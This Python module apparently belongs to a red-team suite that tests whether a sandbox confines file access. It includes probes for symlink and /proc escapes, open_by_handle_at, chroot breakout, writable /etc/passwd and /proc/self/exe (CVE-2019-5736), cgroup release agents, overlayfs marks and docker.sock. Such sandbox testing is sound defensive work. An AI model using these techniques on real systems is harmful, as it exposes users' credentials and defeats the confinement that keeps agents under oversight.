"""Attacks on the file tree: reading and writing what was never shown."""

import ctypes
import errno
import fcntl
import os
import struct

from cloche_redteam import libc, others, places
from cloche_redteam.attack import Unable, attack

TYPE_CHECKING = False  # typing is slow to import; the checker takes this name for True
if TYPE_CHECKING:
    from cloche_redteam.attack import Bait

_UP = "../" * 64
_AT_FDCWD = -100
_GET_FLAGS, _SET_FLAGS, _IMMUTABLE = 0x8008_6601, 0x4008_6602, 0x10  # linux/fs.h


@attack("files", "the plainest of all: an absolute path")
def read_a_secret_by_its_path(bait: "Bait") -> "str | None":
    """Read a file of the user's by its path on the host."""
    return _read(bait["secret_file"], bait)


@attack("files", "symbolic links that leave, CVE-2026-39861")
def read_a_secret_through_a_link(bait: "Bait") -> "str | None":
    """Read a file of the user's through a symbolic link in the working directory."""
    link = f"link-{os.getpid()}"
    os.symlink(bait["secret_file"], link)
    try:
        return _read(link, bait)
    finally:
        os.unlink(link)


@attack("files", "path traversal, CWE-22")
def read_a_secret_by_climbing(bait: "Bait") -> "str | None":
    """Read a file of the user's by more parent directories than there are."""
    return _read(_UP + bait["secret_file"].lstrip("/"), bait)


@attack("files", "proc_pid_root(5)")
def read_a_secret_from_ones_own_root(bait: "Bait") -> "str | None":
    """Read a file of the user's through the link to one's own root directory."""
    return _read(f"/proc/self/root{bait['secret_file']}", bait)


@attack("files", "proc_pid_root(5), the usual way out of a shared pid namespace")
def read_a_secret_from_another_root(bait: "Bait") -> "str | None":
    """Read a file of the user's through the root directory of the sandbox's first process."""
    return _read(f"/proc/{others.first(bait)}/root{bait['secret_file']}", bait)


@attack("files", "proc_pid_cwd(5)")
def read_a_secret_from_another_working_directory(bait: "Bait") -> "str | None":
    """Read a file of the user's by climbing from the first process's working directory."""
    climb = _UP + bait["secret_file"].lstrip("/")
    return _read(f"/proc/{others.first(bait)}/cwd/{climb}", bait)


@attack(
    "files", "open(2): O_PATH asks for no right to read; the right is looked for at the reopening"
)
def read_a_secret_by_a_handle_without_rights(bait: "Bait") -> "str | None":
    """Hold a file of the user's without a right to it, and open it anew through /proc."""
    descriptor = os.open(bait["secret_file"], os.O_PATH)
    try:
        return _read(f"/proc/self/fd/{descriptor}", bait)
    finally:
        os.close(descriptor)


@attack("files", "shocker, 2014: open_by_handle_at(2) with CAP_DAC_READ_SEARCH")
def read_a_secret_by_its_inode(bait: "Bait") -> "str | None":
    """Open a file of the user's by the number it has on its disk, with no path at all."""
    if not bait["secret_handle"]:
        raise Unable("the bait's file system gives no handles")
    handle = bytes.fromhex(bait["secret_handle"])
    buffer = ctypes.create_string_buffer(handle, len(handle))
    refusal = OSError(errno.ESTALE, os.strerror(errno.ESTALE))
    for place in (".", "/", "/usr", "/tmp", "/etc/hosts", "/etc/resolv.conf"):
        try:
            mount = os.open(place, os.O_RDONLY)
            opened = libc.syscall(libc.number(304, 265), mount, buffer, os.O_RDONLY)
        except OSError as error:
            refusal = error
            continue
        with open(opened, encoding="utf-8", errors="replace") as file:
            if bait["secret_text"] in file.read(256):
                return f"read it by the mount of {place}"
    raise refusal


@attack("files", "chroot(2): it does not change the working directory")
def read_a_secret_past_a_changed_root(bait: "Bait") -> "str | None":
    """Leave a changed root by a working directory outside of a second one."""
    inner = f"root-{os.getpid()}"
    project = os.open(".", os.O_RDONLY)
    os.mkdir(inner)
    try:
        os.chroot(inner)
        os.chdir(_UP)
        os.chroot(".")
        return _read(bait["secret_file"], bait)
    finally:
        os.rmdir(inner, dir_fd=project)


@attack("files", "a /tmp that is the host's: what lies beside the project")
def list_the_users_files(bait: "Bait") -> "str | None":
    """List a directory of the user's below /tmp."""
    return f"{len(os.listdir(os.path.dirname(bait['secret_file'])))} names"


@attack("files", "credential files below $HOME, the first thing a malicious package reads")
def read_from_the_users_home(bait: "Bait") -> "str | None":
    """Read a file that lies in the user's home, as keys and tokens do."""
    if not bait["home_file"]:
        raise Unable("the user's home cannot be written, so no bait lies in it")
    return _read(bait["home_file"], bait)


@attack("files", "shadow(5)")
def open_the_passwords(bait: "Bait") -> "str | None":
    """Open the host's file of password hashes, and read none of it."""
    return places.opened(places.of(bait, "passwords"), os.O_RDONLY)


@attack("files", "passwd(5): a line more is a user more")
def open_the_accounts_for_writing(bait: "Bait") -> "str | None":
    """Open the list of users for writing."""
    return places.opened(places.of(bait, "accounts"), os.O_WRONLY)


@attack("files", "CVE-2019-5736's aim: a program of the host that others will run")
def open_a_program_for_writing(bait: "Bait") -> "str | None":
    """Open a program of the system for writing."""
    return _opened_or_busy(places.of(bait, "programs"))


@attack("files", "CVE-2019-5736")
def open_ones_interpreter_for_writing(_bait: "Bait") -> "str | None":
    """Open the program that runs the attacks for writing, through /proc/self/exe."""
    return _opened_or_busy(["/proc/self/exe"])


@attack("files", "CVE-2019-5736")
def open_the_launcher_for_writing(bait: "Bait") -> "str | None":
    """Open the program of the sandbox's first process for writing, through its /proc."""
    return _opened_or_busy([f"/proc/{others.first(bait)}/exe"])


@attack("files", "proc_pid_map_files(5)")
def open_a_mapped_library_for_writing(_bait: "Bait") -> "str | None":
    """Open a library that is mapped in one's own memory for writing, through /proc."""
    refusal = OSError(errno.ENOENT, os.strerror(errno.ENOENT))
    with open("/proc/self/maps", encoding="ascii", errors="replace") as file:
        ranges = [line.split()[0] for line in file if ".so" in line]
    for each in ranges:
        try:
            os.close(os.open(f"/proc/self/map_files/{each}", os.O_WRONLY | os.O_CLOEXEC))
        except OSError as error:
            refusal = error
            continue
        return f"opened {each}"
    raise refusal


@attack("files", "hier(7)")
def make_a_file_among_the_systems(_bait: "Bait") -> "str | None":
    """Make a file below /usr, and remove it."""
    return _made_in("/usr", "/usr/bin", "/usr/lib")


@attack("files", "hier(7)")
def make_a_file_among_the_settings(_bait: "Bait") -> "str | None":
    """Make a file below /etc, and remove it."""
    return _made_in("/etc")


@attack("files", "cron(8), profile.d, systemd.unit(5): what starts later starts outside")
def make_a_file_that_starts_later(bait: "Bait") -> "str | None":
    """Make a file without a name where the host looks for what to start."""
    return _made_in(*places.of(bait, "start"))


@attack("files", "the plainest of all: an absolute path")
def make_a_file_of_the_users(bait: "Bait") -> "str | None":
    """Make a file in a directory of the user's that everyone may write, and remove it."""
    path = f"{bait['writable_directory']}/made-{os.getpid()}"
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
    os.unlink(path)
    return "made it"


@attack("files", "open(2): O_TMPFILE and linkat(2) give a name to what had none")
def name_a_file_among_the_users(bait: "Bait") -> "str | None":
    """Make a file without a name among the user's, and give it one."""
    path = f"{bait['writable_directory']}/named-{os.getpid()}"
    descriptor = os.open(bait["writable_directory"], os.O_TMPFILE | os.O_WRONLY, 0o600)
    try:
        libc.link_what_is_open(descriptor, path)
        os.unlink(path)
        return "named it"
    finally:
        os.close(descriptor)


@attack("files", "hard links keep what they name, protected_hardlinks in proc_sys_fs(5)")
def link_a_secret_into_the_project(bait: "Bait") -> "str | None":
    """Give a file of the user's a second name in the project."""
    link = f"hard-{os.getpid()}"
    os.link(bait["secret_file"], link)
    os.unlink(link)
    return "linked it"


@attack("files", "rename(2) across what only looks like one file system")
def move_a_file_out_of_the_project(bait: "Bait") -> "str | None":
    """Move a file from the project among the user's."""
    name, path = f"out-{os.getpid()}", f"{bait['writable_directory']}/out-{os.getpid()}"
    os.close(os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
    try:
        os.rename(name, path)
    except OSError:
        os.unlink(name)
        raise
    os.unlink(path)
    return "moved it"


@attack(
    "files", "rules for paths that a rename of a parent defeats, PostHog/posthog#87021", alone=True
)
def move_the_project_away(_bait: "Bait") -> "str | None":
    """Rename the directory that the project is, and back."""
    here = os.getcwd()
    os.rename(here, f"{here}-moved")
    os.rename(f"{here}-moved", here)
    return "moved it, and back"


@attack("files", "chmod(2)")
def change_the_rights_of_the_users_files(bait: "Bait") -> "str | None":
    """Set the rights of a directory of the user's, to those it has."""
    os.chmod(bait["writable_directory"], 0o777)
    return "set them"


@attack("files", "ioctl_iflags(2)")
def make_a_file_that_cannot_be_removed(_bait: "Bait") -> "str | None":
    """Make a file immutable, and mutable again."""
    name = f"immutable-{os.getpid()}"
    descriptor = os.open(name, os.O_RDWR | os.O_CREAT | os.O_EXCL)
    try:
        flags = struct.unpack("i", fcntl.ioctl(descriptor, _GET_FLAGS, bytes(4)))[0]
        fcntl.ioctl(descriptor, _SET_FLAGS, struct.pack("i", flags | _IMMUTABLE))
        fcntl.ioctl(descriptor, _SET_FLAGS, struct.pack("i", flags))
        return "made it so"
    finally:
        os.close(descriptor)
        os.unlink(name)


@attack("files", "CVE-2021-3493, CVE-2023-0386: marks that overlayfs trusts")
def forge_a_redirect_of_the_overlay(_bait: "Bait") -> "str | None":
    """Set the mark by which an overlay shows another directory in place of one's own."""
    name = f"redirect-{os.getpid()}"
    os.mkdir(name)
    try:
        os.setxattr(name, "trusted.overlay.redirect", b"/")
        return "set it"
    finally:
        os.rmdir(name)


@attack("files", "overlayfs takes 0:0 for a deletion; anthropics/claude-code#25603's ghost files")
def leave_a_device_among_the_projects_files(_bait: "Bait") -> "str | None":
    """Make the one device node that needs no right in the project, and remove it."""
    name = f"whiteout-{os.getpid()}"
    os.mknod(name, 0o020000, 0)
    os.unlink(name)
    return "made it"


@attack("files", "fanotify(7): every open of every program")
def watch_the_whole_file_system(_bait: "Bait") -> "str | None":
    """Watch what all others open."""
    group = libc.syscall(libc.number(300, 262), 0x200, os.O_RDONLY)  # FAN_REPORT_FID
    try:
        # FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN
        arguments = (group, 0x101, 0x20, _AT_FDCWD, ctypes.c_char_p(b"/"))
        libc.syscall(libc.number(301, 263), *arguments)
        return "watches it"
    finally:
        os.close(group)


@attack("files", "CVE-2019-5489, CVE-2025-21691: what is in the page cache, others have read")
def learn_what_others_have_read(_bait: "Bait") -> "str | None":
    """Ask which parts of a program of the system are in memory."""
    everything = ctypes.create_string_buffer(16)  # struct cachestat_range: all of the file
    counts = ctypes.create_string_buffer(40)
    with open("/usr/bin/env", "rb") as file:
        call = libc.number(451, 451)
        libc.syscall(call, file.fileno(), everything, counts, 0)
    return f"{struct.unpack('Q', counts.raw[:8])[0]} pages"


@attack("files", "docker.sock in a container; systemd-run past landrun, landrun#43")
def find_the_socket_of_a_manager(bait: "Bait") -> "str | None":
    """Find the socket of one who starts programs for others: Docker, Podman, systemd, D-Bus."""
    paths = places.of(bait, "managers")
    there = [path for path in paths if os.access(path, os.W_OK)]
    return f"may connect to {there[0]}" if there else None


@attack("files", "CVE-2022-0492")
def open_a_release_agent_for_writing(bait: "Bait") -> "str | None":
    """Open the name of the program that the kernel starts when a control group is empty."""
    return places.opened(places.of(bait, "release agents"), os.O_WRONLY)


@attack("files", "sysfs(5): uevent_helper, suspend, parameters of modules")
def open_the_kernels_objects_for_writing(bait: "Bait") -> "str | None":
    """Open a switch of the kernel below /sys for writing."""
    return places.opened(places.of(bait, "kernel objects"), os.O_WRONLY)


@attack("files", "tracefs, debugfs, pstore: the kernel's Documentation/trace")
def open_the_kernels_traces(bait: "Bait") -> "str | None":
    """Open what the kernel shows to those who debug it."""
    return places.opened(places.of(bait, "tracing"), os.O_RDONLY)


def _read(path: str, bait: "Bait") -> "str | None":
    with open(path, encoding="utf-8", errors="replace") as file:
        return "read it" if bait["secret_text"] in file.read(4096) else None


def _opened_or_busy(paths: "list[str]") -> str:
    """Open for writing; that a program runs keeps it shut only for as long as it does."""
    try:
        return places.opened(paths, os.O_WRONLY)
    except OSError as error:
        # The kernel looks for who runs a file before it looks whether the mount is read-only.
        if error.errno != errno.ETXTBSY or os.statvfs(paths[-1]).f_flag & os.ST_RDONLY:
            raise
    return "only that it runs keeps it shut"


def _made_in(*directories: str) -> str:
    """Make a file without a name, so that nothing ever finds it."""
    refusal = OSError()
    for directory in directories:
        try:
            os.close(os.open(directory, os.O_TMPFILE | os.O_WRONLY | os.O_CLOEXEC, 0o600))
        except OSError as error:
            refusal = error
            continue
        return f"made one in {directory}"
    raise refusal
